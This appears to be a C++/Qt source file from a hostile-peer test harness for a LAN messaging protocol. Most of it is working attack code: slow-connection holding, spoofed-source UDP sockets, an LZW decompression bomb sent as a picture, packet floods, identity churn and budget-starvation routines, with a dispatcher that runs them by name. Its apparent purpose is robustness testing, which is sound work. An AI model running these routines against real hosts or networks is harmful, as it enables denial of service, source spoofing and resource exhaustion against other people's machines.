#include "hostile.h"
#include "hostile_transfers.h"
#include "hostile_richtext.h"
#include "hostile_pictures.h"
#include "hostile_engineapp.h"
#include "hostile_netbudget.h"
#include "hostile_wire.h"
#include "hostile_hosts.h"
#include "hostile_budget.h"
#include "hostile_strangers.h"

#include "core/Dib.h"
#include "core/Lzw.h"
#include "net/Commands.h"
#include "net/PictureSender.h"
#include "net/PacketCodec.h"

#include <QCoreApplication>
#include <QDeadlineTimer>
#include <QTcpSocket>
#include <QUdpSocket>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {
constexpr int kHeldAfterMs = 1000; // a connection the server kept this long was held, not refused
}

SlowClients::SlowClients(const QHostAddress &target, quint16 port, int count, int seconds,
    const QList<QHostAddress> &sources, const QByteArray &request, QObject *parent)
    : QObject(parent)
    , m_target(target)
    , m_port(port)
    , m_seconds(seconds)
    , m_sources(sources)
    , m_request(request)
    , m_slots(size_t(qMax(count, 0)))
{
    m_timer.setInterval(1000);
    connect(&m_timer, &QTimer::timeout, this, &SlowClients::tick);
}

SlowClients::~SlowClients()
{
    for (Slot &slot : m_slots)
        delete slot.socket;
}

void SlowClients::start()
{
    m_clock.start();
    m_timer.start();
    for (size_t i = 0; i < m_slots.size(); ++i)
        open(m_slots[i], int(i));
}

void SlowClients::open(Slot &slot, int index)
{
    delete slot.socket;
    slot.socket = new QTcpSocket;
    slot.sent = 0;
    slot.closed = false;
    ++m_counts.connects;
    QTcpSocket *socket = slot.socket;
    if (!m_sources.isEmpty())
        socket->bind(m_sources[index % m_sources.size()], 0);
    connect(socket, &QTcpSocket::connected, this, [&slot] { slot.since.start(); });
    connect(socket, &QTcpSocket::readyRead, socket, [socket] { socket->readAll(); });
    connect(socket, &QTcpSocket::disconnected, this, [this, &slot] { closed(slot); });
    connect(socket, &QTcpSocket::errorOccurred, this, [this, &slot] { closed(slot); });
    socket->connectToHost(m_target, m_port);
}

void SlowClients::closed(Slot &slot)
{
    if (slot.closed)
        return;
    slot.closed = true;
    if (slot.since.isValid() && slot.since.elapsed() >= kHeldAfterMs)
        ++m_counts.closedLater;
    else
        ++m_counts.refused;
    slot.since.invalidate();
}

void SlowClients::tick()
{
    const bool over = m_clock.elapsed() >= qint64(m_seconds) * 1000;
    int held = 0;
    for (size_t i = 0; i < m_slots.size(); ++i) {
        Slot &slot = m_slots[i];
        if (slot.closed) {
            if (!over)
                open(slot, int(i));
            continue;
        }
        if (!slot.since.isValid())
            continue;
        if (slot.since.elapsed() >= kHeldAfterMs)
            ++held;
        // One more byte of the request, never its end.
        if (slot.sent + 1 < m_request.size())
            slot.socket->write(m_request.constData() + slot.sent++, 1);
    }
    m_counts.heldMax = qMax(m_counts.heldMax, held);
    if (over) {
        m_timer.stop();
        for (Slot &slot : m_slots) {
            slot.closed = true;
            if (slot.socket)
                slot.socket->abort();
        }
    }
}

QString SlowClients::summary() const
{
    return QStringLiteral("SLOW connects %1 refused %2 closed-later %3 held-max %4")
        .arg(m_counts.connects)
        .arg(m_counts.refused)
        .arg(m_counts.closedLater)
        .arg(m_counts.heldMax);
}

int ChurnIdentities(int count, int paceMs, const QString &hostName, const std::function<bool(const QByteArray &)> &send)
{
    OwnHeader own;
    own.hostName = hostName;
    own.macText = QStringLiteral("02C0FFEE0000");
    quint32 number = 7000000;
    int done = 0;
    for (int i = 0; i < count; ++i) {
        if (!own.userName.isEmpty())
            send(PacketCodec::BuildPacket(own, ++number, CMD_ANNOUNCE_EXIT, QByteArray()));
        own.userName = QStringLiteral("churn%1").arg(i);
        const bool answered = send(PacketCodec::BuildPacket(own, ++number, CMD_ANSWER_ENTRY, own.userName.toUtf8()));
        // A packet number the target never sent.
        const QByteArray neverSent = QByteArray::number(0x7A000000u + quint32(i));
        const bool noticed = send(PacketCodec::BuildPacket(own, ++number, CMD_MESSAGE_OPENED, neverSent));
        if (answered && noticed)
            ++done;
        for (QDeadlineTimer pace(paceMs); !pace.hasExpired();)
            QCoreApplication::processEvents(QEventLoop::AllEvents, qMax(1, paceMs));
    }
    return done;
}

struct RawPeer::Socket
{
    QUdpSocket udp;
};

RawPeer::RawPeer(quint32 target, quint16 targetPort, const QString &login, quint32 from, quint16 fromPort)
    : m_socket(std::make_shared<Socket>())
    , m_target(target)
    , m_port(targetPort)
{
    m_own.userName = login;
    m_own.hostName = login + QStringLiteral("-pc");
    m_socket->udp.bind(from ? QHostAddress(from) : QHostAddress(QHostAddress::AnyIPv4), fromPort);
}

bool RawPeer::isOpen() const
{
    return m_socket->udp.state() == QAbstractSocket::BoundState;
}

quint16 RawPeer::localPort() const
{
    return m_socket->udp.localPort();
}

qint64 RawPeer::send(quint32 commandWord, QByteArrayView body, QByteArrayView extension)
{
    return sendPacket(build(commandWord, body, extension));
}

QByteArray RawPeer::build(quint32 commandWord, QByteArrayView body, QByteArrayView extension)
{
    return PacketCodec::BuildPacket(m_own, ++m_number, commandWord, body, extension, qint32(extension.size()));
}

qint64 RawPeer::resend(quint32 number, quint32 commandWord, QByteArrayView body, QByteArrayView extension)
{
    return sendPacket(PacketCodec::BuildPacket(m_own, number, commandWord, body, extension, qint32(extension.size())));
}

qint64 RawPeer::sendPacket(const QByteArray &packet)
{
    if (packet.isEmpty() || m_socket->udp.writeDatagram(packet, QHostAddress(m_target), m_port) != packet.size())
        return 0;
    m_bytesOut += packet.size();
    return packet.size();
}

bool RawPeer::announce()
{
    const bool sent = send(CMD_ANNOUNCE_ENTRY, m_own.userName.toUtf8()) > 0;
    collect(500);
    reset();
    return sent;
}

void RawPeer::collect(int ms)
{
    QDeadlineTimer deadline(ms);
    while (!deadline.hasExpired()) {
        QCoreApplication::processEvents(QEventLoop::AllEvents, 10);
        while (m_socket->udp.hasPendingDatagrams()) {
            QByteArray data(qMax<qint64>(m_socket->udp.pendingDatagramSize(), 0), Qt::Uninitialized);
            QHostAddress from;
            quint16 port = 0;
            const qint64 n = m_socket->udp.readDatagram(data.data(), data.size(), &from, &port);
            if (n < 0)
                break;
            data.truncate(n);
            ++m_packetsIn;
            m_bytesIn += n;
            PacketRecord p;
            if (PacketCodec::ParsePacket(data, from.toIPv4Address(), port, p) == PacketStatus::Ok) {
                // A peer that receives here says so, as every peer does: it
                // echoes a read notice that asks for its check.
                if (p.command() == CMD_MESSAGE_OPENED && p.hasOption(OPT_READ_CHECK))
                    m_echoes.push_back({ QDeadlineTimer(m_echoDelayMs),
                        m_echoNumber ? PacketCodec::FormatNumber(p.packetNumber) : p.body });
                m_answers.append(p);
            }
        }
        // The echoes that are due go, the others wait.
        std::erase_if(m_echoes, [this](const std::pair<QDeadlineTimer, QByteArray> &e) {
            if (!e.first.hasExpired())
                return false;
            send(CMD_ANSWER_READ, e.second);
            return true;
        });
        if (!m_socket->udp.hasPendingDatagrams())
            m_socket->udp.waitForReadyRead(5);
    }
}

void PumpEvents(int ms)
{
    for (QDeadlineTimer t(ms); !t.hasExpired();)
        QCoreApplication::processEvents(QEventLoop::AllEvents, 5);
}

int OpenForgedSocket(quint32 from, quint16 fromPort)
{
    const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    const int on = 1;
    // Any source address at all (root only).
    ::setsockopt(fd, IPPROTO_IP, IP_TRANSPARENT, &on, sizeof on);
    ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    sockaddr_in a {};
    a.sin_family = AF_INET;
    a.sin_addr.s_addr = htonl(from);
    a.sin_port = htons(fromPort);
    if (::bind(fd, reinterpret_cast<sockaddr *>(&a), sizeof a) != 0) {
        ::close(fd);
        return -1;
    }
    return fd;
}

ForgedPeer::ForgedPeer(quint32 from, quint16 fromPort, quint32 target, quint16 targetPort, const QString &login)
    : m_fd(OpenForgedSocket(from, fromPort))
    , m_target(target)
    , m_port(targetPort)
{
    m_own.userName = login;
    m_own.hostName = login + QStringLiteral("-pc");
}

ForgedPeer::~ForgedPeer()
{
    if (m_fd >= 0)
        ::close(m_fd);
}

qint64 ForgedPeer::send(quint32 commandWord, QByteArrayView body, QByteArrayView extension)
{
    const QByteArray packet
        = PacketCodec::BuildPacket(m_own, ++m_number, commandWord, body, extension, qint32(extension.size()));
    sockaddr_in to {};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(m_target);
    to.sin_port = htons(m_port);
    if (m_fd < 0 || packet.isEmpty()
        || ::sendto(m_fd, packet.constData(), size_t(packet.size()), 0, reinterpret_cast<sockaddr *>(&to), sizeof to)
            != packet.size())
        return 0;
    m_sent += packet.size();
    ++m_packets;
    return packet.size();
}

QList<QPair<QByteArray, QByteArray>> PictureChunks(
    quint32 id, const QByteArray &data, qint32 kind, qint32 compression, qint32 purpose, qint32 chunkSize)
{
    QList<QPair<QByteArray, QByteArray>> out;
    PictureSender s(id, data, kind, compression, purpose, 0, chunkSize, [&](const QByteArray &h, QByteArrayView c) {
        out.append({ h, c.toByteArray() });
        return true;
    });
    s.SendAll();
    return out;
}

QByteArray LzwBomb(int width, int height)
{
    QByteArray dib = makeDibInfoHeader(width, height, 24);
    dib.append(QByteArray(qsizetype(dibStride(width, 24)) * height, '\0'));
    return LzwCompressGlobal(dib);
}

namespace {

QByteArray smallDib(int side, int seed)
{
    QByteArray dib = makeDibInfoHeader(side, side, 24);
    QByteArray bits(qsizetype(dibStride(side, 24)) * side, '\0');
    for (qsizetype i = 0; i < bits.size(); ++i)
        bits[i] = char((i * 7 + seed * 31) & 0xFF);
    return dib + bits;
}

void sendPicture(RawPeer &peer, quint32 id, const QByteArray &data, qint32 kind, qint32 compression,
    qint32 purpose = 0, int chunkSize = 1024)
{
    const quint32 command = purpose == 1 ? CMD_HEAD_PICTURE_DATA : CMD_PICTURE_DATA;
    int n = 0;
    for (const auto &[header, bytes] : PictureChunks(id, data, kind, compression, purpose, chunkSize)) {
        peer.send(command | OPT_FILE_ATTACH, header, bytes);
        if (++n % 16 == 0)
            peer.collect(2); // a pace the receiver's socket keeps up with
    }
}

QByteArray markers(quint32 id, int count)
{
    QByteArray text;
    for (int i = 0; i < count; ++i)
        text += QStringLiteral("/~#>%1<B~").arg(id, 8, 16, QLatin1Char('0')).toLatin1();
    return text;
}

QString ratioLine(const QString &who, quint32 command, const RawPeer &peer)
{
    return QStringLiteral("RATIO %1 %2 %3 %4 %5")
        .arg(who, QString::number(command, 16))
        .arg(peer.bytesOut())
        .arg(peer.bytesIn())
        .arg(peer.packetsIn());
}

} // namespace

bool RunAttack(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    if (words.isEmpty())
        return false;
    if (RunTransferAttack(words, target, port, report))
        return true;
    if (const std::optional<bool> ran = RunRichTextAttack(words, target, port, report))
        return *ran;
    if (RunPictureAttack(words, target, port, report))
        return true;
    if (RunLogAttack(words, target, port, report))
        return true;
    if (const auto done = RunBudgetAttack(words, target, port, report))
        return *done;
    if (const auto done = RunWireAttack(words, target, port, report))
        return *done;
    if (const auto done = RunHostAttack(words, target, port, report))
        return *done;
    if (const auto done = RunAnswerBudgetAttack(words, target, port, report))
        return *done;
    if (const auto done = RunStrangerAttack(words, target, port, report))
        return *done;
    const QString attack = words[0];
    const int n = words.size() > 1 ? qBound(1, words[1].toInt(), 100000) : 1;
    // A second source address (the picture budget is shared per address).
    const quint32 other = words.size() > 1 ? QHostAddress(words[1]).toIPv4Address() : 0;
    if (attack == QLatin1String("ratios")) {
        // What each command brings back: 20 requests each from a port no one
        // listed and from one that announced itself.
        const QList<QPair<quint32, QByteArray>> requests = {
            { CMD_ANNOUNCE_ENTRY, "x" }, { CMD_SEND_MESSAGE | OPT_SEND_CHECK, "hi" },
            { CMD_MESSAGE_OPENED | OPT_READ_CHECK, "1" }, { CMD_GET_INFO, "" }, { CMD_GET_ABSENCE_INFO, "" },
            { CMD_GET_PUBLIC_KEY, "21003" }, { CMD_GET_SIGNATURE, "" }, { CMD_GET_PICTURE, "0" },
            { CMD_GET_CUSTOM_PICTURE, "0" }, { CMD_RELEASE_FILES, "1" }, { CMD_GET_SHARE_LIST, "" },
            { CMD_GET_ALL_SHARES, "" }, { CMD_VOICE_REQUEST, "" }, { CMD_ASSIST_REQUEST, "" },
            { CMD_SCREEN_SHAKE, "" }, { CMD_CHAT_PROBE, "" }, { CMD_GET_PROGRAM, "" }, { CMD_TYPING, "" },
        };
        int k = 0;
        for (const auto &[command, body] : requests) {
            for (const bool listed : { false, true }) {
                RawPeer peer(target, port, QStringLiteral("ratio%1%2").arg(k++).arg(listed ? QLatin1Char('l') : QLatin1Char('u')));
                if (!peer.isOpen())
                    return false;
                if (listed && command != CMD_ANNOUNCE_ENTRY)
                    peer.announce();
                for (int i = 0; i < 20; ++i)
                    peer.send(command, body);
                peer.collect(1500);
                report(ratioLine(listed ? QStringLiteral("listed") : QStringLiteral("unlisted"), command, peer));
            }
        }
        return true;
    }
    if (attack == QLatin1String("bomb")) {
        RawPeer peer(target, port, QStringLiteral("bomber"));
        peer.announce();
        const QByteArray bomb = LzwBomb(5000, 4000);
        sendPicture(peer, 0xB0B0B0B0, bomb, 0, 1, 0, 4096);
        sendPicture(peer, 0x5A11, LzwCompressGlobal(smallDib(200, 1)), 0, 1);
        peer.collect(500);
        peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, markers(0xB0B0B0B0, 20));
        peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, markers(0x5A11, 1000));
        peer.collect(1000);
        report(QStringLiteral("BOMB packed %1 bytes, out %2").arg(bomb.size()).arg(peer.bytesOut()));
        return true;
    }
    if (attack == QLatin1String("headpics")) {
        qint64 out = 0;
        for (const bool listed : { false, true }) {
            RawPeer peer(target, port, listed ? QStringLiteral("headl") : QStringLiteral("headu"));
            if (listed) {
                peer.setMac(QStringLiteral("02AB0000FFFF"));
                peer.announce();
            }
            for (int i = 0; i < n; ++i) {
                peer.setMac(QStringLiteral("02AB%1").arg(i + (listed ? 50000 : 0), 8, 16, QLatin1Char('0')).toUpper());
                sendPicture(peer, 0x1000 + quint32(i), LzwCompressGlobal(smallDib(64, i)), 1, 1, 1);
            }
            peer.collect(500);
            out += peer.bytesOut();
        }
        report(QStringLiteral("HEADPICS %1 each, out %2").arg(n).arg(out));
        return true;
    }
    if (attack == QLatin1String("chatpics")) {
        RawPeer peer(target, port, QStringLiteral("chatpics"));
        peer.announce();
        for (int i = 0; i < n; ++i)
            sendPicture(peer, 0x2000 + quint32(i), LzwCompressGlobal(smallDib(64, i)), 0, 1);
        peer.collect(500);
        report(QStringLiteral("CHATPICS %1, out %2").arg(n).arg(peer.bytesOut()));
        return true;
    }
    if (attack == QLatin1String("storedack")) {
        // First a picture that is stored: sent whole and named by a message.
        RawPeer owner(target, port, QStringLiteral("owner"), other);
        owner.announce();
        const quint32 id = 0x3A3A3A3A;
        sendPicture(owner, id, smallDib(32, 3), 1, 0);
        owner.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, markers(id, 1));
        owner.collect(1500);
        // One chunk of one byte that claims 8000 chunks.
        const QByteArray header = QStringLiteral("%1|8000|0|8000|1|1|1|0|0|00000000#")
                                      .arg(id, 8, 16, QLatin1Char('0'))
                                      .toLatin1();
        for (const QString &who : { QStringLiteral("listed"), QStringLiteral("again"), QStringLiteral("unlisted") }) {
            RawPeer peer(target, port, QStringLiteral("stored") + who, other);
            if (who == QLatin1String("listed") || who == QLatin1String("again"))
                peer.announce();
            peer.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, QByteArray(1, 'x'));
            if (who == QLatin1String("again")) {
                peer.collect(6000);
                peer.reset();
                peer.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, QByteArray(1, 'x'));
            }
            peer.collect(6000);
            report(QStringLiteral("STOREDACK %1 out %2 in %3 acks %4").arg(who).arg(peer.bytesOut()).arg(peer.bytesIn()).arg(peer.packetsIn()));
        }
        return true;
    }
    if (attack == QLatin1String("ports")) {
        const int rate = words.size() > 2 ? qBound(1, words[2].toInt(), 10000) : 200;
        QElapsedTimer clock;
        clock.start();
        qint64 answers = 0;
        for (int i = 0; i < n; ++i) {
            RawPeer peer(target, port, QStringLiteral("port%1").arg(i));
            peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, "flood");
            peer.collect(int(qMax<qint64>(0, qint64(i + 1) * 1000 / rate - clock.elapsed())));
            answers += peer.packetsIn();
        }
        report(QStringLiteral("PORTS unlisted %1 answers %2").arg(n).arg(answers));
        answers = 0;
        for (int i = 0; i < n / 20; ++i) {
            RawPeer peer(target, port, QStringLiteral("lport%1").arg(i));
            peer.announce();
            peer.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, "flood");
            peer.collect(20);
            answers += peer.packetsIn();
        }
        report(QStringLiteral("PORTS listed %1 answers %2").arg(n / 20).arg(answers));
        return true;
    }
    if (attack == QLatin1String("shakes")) {
        RawPeer peer(target, port, QStringLiteral("shaker"));
        peer.announce();
        for (int i = 0; i < n; ++i) {
            peer.send(CMD_SCREEN_SHAKE, "");
            peer.collect(5);
        }
        for (int i = 0; i < n; ++i) {
            peer.send(i % 2 ? CMD_ASSIST_REQUEST : CMD_VOICE_REQUEST, "");
            peer.send(i % 2 ? CMD_ASSIST_CANCELLED : CMD_VOICE_CANCELLED, "");
            peer.collect(5);
        }
        peer.collect(500);
        report(QStringLiteral("SHAKES %1 and %1 request pairs, answers %2").arg(n).arg(peer.packetsIn()));
        return true;
    }
    if (attack == QLatin1String("starve")) {
        // The attacker takes what it can of the budget and renews it.
        RawPeer hog(target, port, QStringLiteral("hog"));
        hog.announce();
        auto renew = [&](int chunk) {
            for (quint32 p = 0; p < 40; ++p) {
                const QByteArray header = QStringLiteral("%1|4000000|%2|7813|%3|512|1|0|0|00000000#")
                                              .arg(0x6000 + p, 8, 16, QLatin1Char('0'))
                                              .arg(chunk * 512)
                                              .arg(chunk + 1)
                                              .toLatin1();
                hog.send(CMD_PICTURE_DATA | OPT_FILE_ATTACH, header, QByteArray(512, 'h'));
            }
        };
        renew(0);
        hog.collect(1000);
        const qint64 hogAcks = hog.packetsIn();
        RawPeer victim(target, port, QStringLiteral("victim"), other);
        victim.announce();
        const QByteArray picture = smallDib(48, 9);
        const qsizetype chunks = PictureChunks(0x7777, picture, 1, 0, 0, 1024).size();
        sendPicture(victim, 0x7777, picture, 1, 0);
        victim.send(CMD_SEND_MESSAGE | OPT_SEND_CHECK, markers(0x7777, 1));
        renew(1);
        victim.collect(1500);
        int acked = 0;
        for (const PacketRecord &p : victim.answers())
            acked += p.command() == CMD_PICTURE_ACK;
        report(QStringLiteral("STARVE hog-acks %1 of 40 victim-acks %2 for %3 chunks").arg(hogAcks).arg(acked).arg(chunks));
        return true;
    }
    return false;
}
